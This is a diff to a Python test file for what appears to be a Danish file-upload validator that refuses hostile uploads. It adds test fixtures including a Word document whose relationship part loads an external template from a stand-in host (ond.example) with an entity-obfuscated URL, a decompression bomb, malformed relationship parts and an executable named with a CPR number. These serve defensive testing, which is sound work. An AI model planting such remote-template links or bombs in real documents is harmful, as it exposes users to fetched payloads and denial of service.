@@ -99,6 +99,7 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     (".pdf", PDF, "rigtige slags"),
     ("tom.txt", b"", "tom"),
     (f"{CPR}.pdf", PDF, "CPR-nummer"),
+    (f"{CPR}.exe", b"MZ", "CPR-nummer"),
     ("noter.txt", f"Borgeren {CPR}".encode(), "CPR-nummer"),
     ("svar.csv", f"{CPR};Ja".encode("utf-16"), "CPR-nummer"),
     ("guide.docx", word("Se", f"borger {CPR}"), "CPR-nummer"),
@@ -134,12 +135,41 @@ HOSTILE: list[tuple[str, bytes, str]] = [
         ),
         "henter noget fra nettet",
     ),
-    ("tal.xlsx", with_part(excel(), "xl/worksheets/sheet2.xml", b" " * 200 * 1024 * 1024), "pakkes ud"),
+    (
+        "guide.docx",
+        with_part(
+            word("x"),
+            "word/_rels/settings.xml.rels",
+            b"<r:Relationships xmlns:r='x'><r:Relationship Id='a>' TargetMode = 'External' "
+            b"Target='&#104;ttps://ond.example/m.dotm' Type='http://x/attachedTemplate'/></r:Relationships>",
+        ),
+        "henter noget fra nettet",
+    ),
+    ("guide.docx", with_part(word("x"), "word/_rels/a.xml.rels", b"<Relationships>"), "beskadiget"),
+    (
+        "guide.docx",
+        with_part(word("x"), "word/_rels/a.xml.rels", b"<Relationship " * 1024 * 1024),
+        "pakkes ud",
+    ),
+    (
+        "guide.docx",
+        with_part(word("x"), "word/_rels/a.xml.rels", b"<Relationship " * 300 * 1024),
+        "beskadiget",
+    ),
 ]
 
 
 @pytest.mark.parametrize(("name", "content", "said"), HOSTILE, ids=[f"{one[0]}-{one[2]}" for one in HOSTILE])
 def test_what_is_refused_in_words_within_a_second(name: str, content: bytes, said: str) -> None:
+    is_refused(name, content, said)
+
+
+def test_a_file_that_unpacks_to_more_than_may_be_is_refused() -> None:
+    # Made here and not in the table: it takes its time and memory wherever tests are only collected.
+    is_refused("tal.xlsx", with_part(excel(), "xl/bombe.xml", b" " * 151 * 1024 * 1024), "pakkes ud")
+
+
+def is_refused(name: str, content: bytes, said: str) -> None:
     begun = time.perf_counter()
     with pytest.raises(Refused) as refused:
         check_file(name, content)
